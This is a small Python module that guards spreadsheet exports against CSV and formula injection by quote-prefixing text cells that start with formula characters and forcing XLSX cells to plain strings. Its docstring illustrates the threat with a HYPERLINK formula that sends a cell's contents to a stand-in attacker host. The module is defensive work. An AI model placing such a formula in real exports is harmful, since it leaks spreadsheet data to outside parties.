"""Text cells a spreadsheet must never evaluate.

A player called `=HYPERLINK("http://evil.example/?leak="&A1)` would be a live formula in
any CSV or XLSX opened in a spreadsheet. The OWASP rule for CSV injection: a text cell that
starts with `=`, `+`, `-`, `@`, a tab or a carriage return is prefixed with a single quote,
which spreadsheets read as "this is text" and do not show; in XLSX the cell is also written
as a string (never a formula) with Excel's quote-prefix flag. Only text from people goes
through here: numbers are written as numbers.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def evaluated(text: str) -> bool:
    """Would a spreadsheet read this text cell as a formula?"""
    return text.startswith(FORMULA_STARTS)


def spreadsheet_text(text: str) -> str:
    """A text cell for a CSV file: prefixed with ' when a spreadsheet would evaluate it."""
    return "'" + text if evaluated(text) else text


def protect_xlsx_cell(cell: Any) -> None:
    """Make an openpyxl cell holding text a plain string, never a formula."""
    if isinstance(cell.value, str) and evaluated(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
